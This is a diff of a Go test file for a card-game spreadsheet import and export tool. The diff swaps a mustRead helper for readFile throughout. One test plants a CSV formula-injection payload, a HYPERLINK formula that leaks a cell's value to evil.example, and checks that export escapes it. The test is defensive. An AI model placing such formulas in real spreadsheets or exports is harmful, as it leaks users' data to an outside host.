@@ -15,15 +15,6 @@ import (
 	"github.com/cardpress/cardpress/spreadsheet"
 )
 
-func mustRead(t *testing.T, path string) []byte {
-	t.Helper()
-	data, err := os.ReadFile(path)
-	if err != nil {
-		t.Fatal(err)
-	}
-	return data
-}
-
 // deckTargets is, for each deck of the game in dir, the one card file
 // holding its cards, which import rewrites.
 func deckTargets(t *testing.T, dir string) (decks, files []string) {
@@ -45,7 +36,7 @@ func deckTargets(t *testing.T, dir string) (decks, files []string) {
 // sheetsOf reads every sheet of an XLSX file.
 func sheetsOf(t *testing.T, path string) map[string]*spreadsheet.Table {
 	t.Helper()
-	wb, err := spreadsheet.OpenXLSX(mustRead(t, path))
+	wb, err := spreadsheet.OpenXLSX(readFile(t, path))
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -109,7 +100,7 @@ func sameExports(t *testing.T, first, second string) {
 				}
 			}
 		}
-		if !bytes.Equal(mustRead(t, path), mustRead(t, other)) {
+		if !bytes.Equal(readFile(t, path), readFile(t, other)) {
 			t.Errorf("%s differs after import and export", rel)
 		}
 		return nil
@@ -137,7 +128,7 @@ func TestSheetRoundTripShippedDecks(t *testing.T) {
 				entries, _ := os.ReadDir(filepath.Join(repoRoot, "cards", g))
 				for _, e := range entries {
 					name := filepath.Join("cards", g, e.Name())
-					if !e.IsDir() && !bytes.Equal(mustRead(t, filepath.Join(repoRoot, name)), mustRead(t, filepath.Join(ws, name))) {
+					if !e.IsDir() && !bytes.Equal(readFile(t, filepath.Join(repoRoot, name)), readFile(t, filepath.Join(ws, name))) {
 						t.Errorf("%s changed by importing its own export", name)
 					}
 				}
@@ -162,13 +153,13 @@ func TestSheetRoundTripOwnGames(t *testing.T) {
 			}
 			before := map[string][]byte{}
 			for _, f := range []string{"sprint/cards.yaml", "market/goods.yaml", "market/orders.yaml"} {
-				before[f] = mustRead(t, filepath.Join(ws, f))
+				before[f] = readFile(t, filepath.Join(ws, f))
 			}
 			first, second := roundTrip(t, ws, ".", format, "sprint", "market")
 			sameExports(t, first, second)
 			for f, data := range before {
-				if !bytes.Equal(data, mustRead(t, filepath.Join(ws, f))) {
-					t.Errorf("%s changed by importing its own export:\n%s", f, mustRead(t, filepath.Join(ws, f)))
+				if !bytes.Equal(data, readFile(t, filepath.Join(ws, f))) {
+					t.Errorf("%s changed by importing its own export:\n%s", f, readFile(t, filepath.Join(ws, f)))
 				}
 			}
 		})
@@ -176,13 +167,13 @@ func TestSheetRoundTripOwnGames(t *testing.T) {
 	ws := sprint(t)
 	run(t, ws, "new", "market")
 	run(t, ws, "export", "csv", "market", "--out", "out")
-	csv := string(mustRead(t, filepath.Join(ws, "out/market/market-goods.csv")))
+	csv := string(readFile(t, filepath.Join(ws, "out/market/market-goods.csv")))
 	for _, want := range []string{"id,name,deck,count,cost,points,stall,rules,perishable,flavor\n", ",true,\"Fragrant tonight, stale tomorrow.\"\n"} {
 		if !strings.Contains(csv, want) {
 			t.Errorf("goods.csv lacks %q:\n%s", want, csv)
 		}
 	}
-	if orders := string(mustRead(t, filepath.Join(ws, "out/market/market-orders.csv"))); !strings.Contains(orders, `,"spice, silk, tea",`) {
+	if orders := string(readFile(t, filepath.Join(ws, "out/market/market-orders.csv"))); !strings.Contains(orders, `,"spice, silk, tea",`) {
 		t.Errorf("orders.csv writes no list as values separated by commas:\n%s", orders)
 	}
 }
@@ -193,7 +184,7 @@ func TestImportEditedSheet(t *testing.T) {
 	ws := sprint(t)
 	run(t, ws, "export", "csv", "sprint", "--out", "out")
 	path := filepath.Join(ws, "out/sprint/sprint-main.csv")
-	edited := strings.Replace(string(mustRead(t, path)), "hare,Hare,4,1,", "hare,Mad Hare,4,1,", 1)
+	edited := strings.Replace(string(readFile(t, path)), "hare,Hare,4,1,", "hare,Mad Hare,4,1,", 1)
 	edited += "owl,Owl,1,9,slow,\"Look, then draw.\"\n"
 	if err := os.WriteFile(path, []byte(edited), 0o644); err != nil {
 		t.Fatal(err)
@@ -210,14 +201,14 @@ func TestImportEditedSheet(t *testing.T) {
 	if code, out, errOut := run(t, ws, "import", path, "--game", "sprint", "--deck", "main", "--into", "cards.yaml"); code != 0 {
 		t.Fatalf("import: exit %d\n%s%s", code, out, errOut)
 	}
-	yaml := string(mustRead(t, filepath.Join(ws, "sprint/cards.yaml")))
+	yaml := string(readFile(t, filepath.Join(ws, "sprint/cards.yaml")))
 	for _, want := range []string{"  - id: hare\n    name: Mad Hare\n    count: 3\n", "  - id: owl\n    name: Owl\n    count: 1\n    points: 9\n    speed: slow\n    rules: Look, then draw.\n", "  - id: tortoise\n    name: Tortoise\n"} {
 		if !strings.Contains(yaml, want) {
 			t.Errorf("cards.yaml lacks %q:\n%s", want, yaml)
 		}
 	}
 	run(t, ws, "export", "csv", "sprint", "--out", "again")
-	if got := string(mustRead(t, filepath.Join(ws, "again/sprint/sprint-main.csv"))); got != edited {
+	if got := string(readFile(t, filepath.Join(ws, "again/sprint/sprint-main.csv"))); got != edited {
 		t.Errorf("exported again:\n%s\nwant\n%s", got, edited)
 	}
 }
@@ -240,7 +231,7 @@ func TestImportProblemsNameSheetRowColumn(t *testing.T) {
 		t.Fatal(err)
 	}
 	os.WriteFile(filepath.Join(ws, "cards.xlsx"), data, 0o644)
-	before := mustRead(t, filepath.Join(ws, "sprint/cards.yaml"))
+	before := readFile(t, filepath.Join(ws, "sprint/cards.yaml"))
 	code, out, _ := run(t, ws, "import", "cards.xlsx", "--game", "sprint", "--deck", "main", "--into", "cards.yaml")
 	want := []string{
 		`cards.xlsx: sheet "main", row 3, column D (speed): "quick" is not allowed; use one of: "slow", "steady", "fast" (SCHEMA_ENUM)`,
@@ -252,7 +243,7 @@ func TestImportProblemsNameSheetRowColumn(t *testing.T) {
 	if code != 1 || strings.TrimSpace(out) != strings.Join(want, "\n") {
 		t.Errorf("exit %d, got\n%s\nwant\n%s", code, out, strings.Join(want, "\n"))
 	}
-	if !bytes.Equal(before, mustRead(t, filepath.Join(ws, "sprint/cards.yaml"))) {
+	if !bytes.Equal(before, readFile(t, filepath.Join(ws, "sprint/cards.yaml"))) {
 		t.Error("cards.yaml was written despite the errors")
 	}
 
@@ -287,7 +278,7 @@ func TestImportRefusesToOverwrite(t *testing.T) {
 		{"sprint/notes.yaml", "notes.yaml", "notes.yaml exists and is not one of the card files game.yaml lists"},
 		{"game.yaml", "game.yaml", "game.yaml exists and is not one of the card files"},
 	} {
-		before := mustRead(t, filepath.Join(ws, "sprint", tc.file))
+		before := readFile(t, filepath.Join(ws, "sprint", tc.file))
 		args := []string{"import", csv, "--game", "sprint", "--deck", "main"}
 		if tc.into != "" {
 			args = append(args, "--into", tc.into)
@@ -296,7 +287,7 @@ func TestImportRefusesToOverwrite(t *testing.T) {
 		if code != 1 || !strings.Contains(errOut, tc.want) || strings.Contains(out, "wrote") {
 			t.Errorf("--into %q: exit %d\n%s%s", tc.into, code, out, errOut)
 		}
-		if !bytes.Equal(before, mustRead(t, filepath.Join(ws, "sprint", tc.file))) {
+		if !bytes.Equal(before, readFile(t, filepath.Join(ws, "sprint", tc.file))) {
 			t.Errorf("--into %q: %s was changed", tc.into, tc.file)
 		}
 	}
@@ -317,7 +308,7 @@ func TestImportNewFile(t *testing.T) {
 	// The orders move to a file of their own: game.yaml lists it instead
 	// of orders.yaml, which is removed.
 	manifest := filepath.Join(ws, "market", "game.yaml")
-	data := mustRead(t, manifest)
+	data := readFile(t, manifest)
 	os.Remove(filepath.Join(ws, "market", "orders.yaml"))
 	os.WriteFile(manifest, bytes.Replace(data, []byte("[goods.yaml, orders.yaml]"), []byte("[goods.yaml]"), 1), 0o644)
 	csv := filepath.Join("out", "market", "market-orders.csv")
@@ -330,7 +321,7 @@ func TestImportNewFile(t *testing.T) {
 		!strings.Contains(out, "orders.yaml is not one of the game's card files yet: add orders.yaml to files.cards in "+manifest[len(ws)+1:]) {
 		t.Fatalf("import into a new file: exit %d\n%s%s", code, out, errOut)
 	}
-	written := string(mustRead(t, filepath.Join(ws, "market", "orders.yaml")))
+	written := string(readFile(t, filepath.Join(ws, "market", "orders.yaml")))
 	if !strings.HasPrefix(written, "# yaml-language-server: $schema=schema/cards.schema.json\n# Deck orders, imported from market-orders.csv by cardpress import.\ncards:\n  - id: ") {
 		t.Errorf("the new file's head:\n%s", written)
 	}
@@ -388,7 +379,7 @@ func TestExportFormat(t *testing.T) {
 		{"export", "--deck", "main", "--format", "csv", "--out", "b", "sprint"},
 	} {
 		os.RemoveAll(filepath.Join(ws, "b"))
-		if code, out, errOut := run(t, ws, args...); code != 0 || !bytes.Equal(mustRead(t, filepath.Join(ws, "a/sprint/sprint-main.csv")), mustRead(t, filepath.Join(ws, "b/sprint/sprint-main.csv"))) {
+		if code, out, errOut := run(t, ws, args...); code != 0 || !bytes.Equal(readFile(t, filepath.Join(ws, "a/sprint/sprint-main.csv")), readFile(t, filepath.Join(ws, "b/sprint/sprint-main.csv"))) {
 			t.Errorf("%v: exit %d\n%s%s", args, code, out, errOut)
 		}
 	}
@@ -435,13 +426,13 @@ func TestExportFormat(t *testing.T) {
 func TestExportCSVFormulaInjection(t *testing.T) {
 	ws := sprint(t)
 	path := filepath.Join(ws, "sprint", "cards.yaml")
-	cards := strings.Replace(string(mustRead(t, path)), "rules: Draw a card.", `rules: '=HYPERLINK("http://evil.example/?leak="&B2,"Draw a card.")'`, 1)
+	cards := strings.Replace(string(readFile(t, path)), "rules: Draw a card.", `rules: '=HYPERLINK("http://evil.example/?leak="&B2,"Draw a card.")'`, 1)
 	cards = strings.Replace(cards, "rules: Take a banked card from the player on your left.", "rules: '-2 points, @ the end'", 1)
 	os.WriteFile(path, []byte(cards), 0o644)
 	if code, out, errOut := run(t, ws, "export", "csv", "sprint", "--out", "out"); code != 0 {
 		t.Fatalf("export: exit %d\n%s%s", code, out, errOut)
 	}
-	csv := string(mustRead(t, filepath.Join(ws, "out/sprint/sprint-main.csv")))
+	csv := string(readFile(t, filepath.Join(ws, "out/sprint/sprint-main.csv")))
 	for _, want := range []string{`,"'=HYPERLINK(""http://evil.example/?leak=""&B2,""Draw a card."")"`, `,"'-2 points, @ the end"` + "\n"} {
 		if !strings.Contains(csv, want) {
 			t.Errorf("the CSV lacks %q:\n%s", want, csv)
@@ -458,7 +449,7 @@ func TestExportCSVFormulaInjection(t *testing.T) {
 	if code != 0 {
 		t.Fatalf("import: exit %d\n%s%s", code, out, errOut)
 	}
-	if got := string(mustRead(t, path)); got != cards {
+	if got := string(readFile(t, path)); got != cards {
 		t.Errorf("the card file changed on the round trip:\n%s", got)
 	}
 }
